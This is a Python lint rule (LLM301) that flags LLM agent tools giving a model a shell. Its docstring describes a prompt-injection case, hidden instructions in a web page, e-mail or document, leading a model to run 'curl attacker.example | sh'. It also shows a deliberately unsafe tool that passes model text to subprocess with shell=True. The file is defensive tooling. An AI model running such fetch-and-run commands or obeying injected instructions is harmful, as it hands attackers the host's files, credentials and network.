from llmlint.finding import Severity
from llmlint.rule import AgencyRule


class AgentShellTool(AgencyRule):
    """
    ## What it does
    Finds agents and tools that give a model a shell. It reports LangChain's `ShellTool`,
    `BashProcess`, `LLMBashChain` and `load_tools(["terminal"])`, the OpenAI Agents SDK's
    `LocalShellTool`, `ShellTool` with a local executor and `ComputerTool`, Pydantic AI's
    `LocalWorkspace`, and the project's own tools (`@tool`, `@mcp.tool()`,
    `@function_tool`, `StructuredTool.from_function`, tool classes...) that pass their
    arguments to `os.system`, `subprocess` with `shell=True`, or a program the model
    names. The finding is where the tool is made or registered.

    ## Why is this bad?
    Whatever the model writes becomes a command on the host, with the application's
    user, files, credentials and network. A model follows instructions in everything it
    reads: one prompt injection in a web page, an e-mail or a document it is shown is
    enough to run `curl attacker.example | sh`. OWASP calls this excessive agency: the
    tool does far more than the task needs.

    ## Example
    ```python
    import subprocess

    from langchain_community.tools import ShellTool
    from langchain_core.tools import tool

    shell = ShellTool()


    @tool
    def run(command: str) -> str:
        \"\"\"Run a shell command.\"\"\"
        return subprocess.run(command, shell=True, capture_output=True, text=True).stdout
    ```

    Use instead:
    ```python
    import subprocess

    from langchain_core.tools import tool

    REPORTS = {"disk": ["df", "-h"], "uptime": ["uptime"]}


    @tool
    def system_report(kind: str) -> str:
        \"\"\"Run one of the fixed system reports: disk or uptime.\"\"\"
        return subprocess.run(REPORTS[kind], capture_output=True, text=True).stdout
    ```

    ## Known limitations
    A tool's arguments are followed into functions of the same module, not into other
    modules. Sandboxes (a container, a VM, a restricted user) are not seen: a shell tool
    that runs inside one is reported all the same. `ComputerTool` is reported whatever
    computer backs it.

    ## References
    - [OWASP LLM06:2025 Excessive Agency](https://genai.owasp.org/llmrisk/llm062025-excessive-agency/)
    - [LangChain: security policy](https://python.langchain.com/docs/security/)
    - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    - [CWE-250: Execution with Unnecessary Privileges](https://cwe.mitre.org/data/definitions/250.html)
    """

    code = "LLM301"
    name = "agent-shell-tool"
    severity = Severity.ERROR
    owasp = ("LLM08:2023", "LLM06:2025")
    cwe = (78, 250)
    precision = "high"
    consequence = "any command the model writes runs on this machine"
